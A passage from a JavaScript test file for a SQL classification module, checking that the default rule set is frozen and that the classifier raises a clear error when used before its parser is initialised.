    expect(Object.isFrozen(DEFAULT_SQL_RULES)).toBe(true);
    expect(Object.isFrozen(DEFAULT_SQL_RULES.deniedFunctions)).toBe(true);
  });
});

describe("initialisation", () => {
  it("throws a clear error when classifySql is called before initSqlParser", async () => {
    vi.resetModules();
    const fresh = await import("../../src/db/classify.js");
    expect(() => fresh.classifySql("SELECT 1", { mode: "test" })).toThrow(/await initSqlParser\(\)/);
    await fresh.initSqlParser();
    expect(fresh.classifySql("SELECT 1", { mode: "test" }).decision).toBe("allow");
  });
});
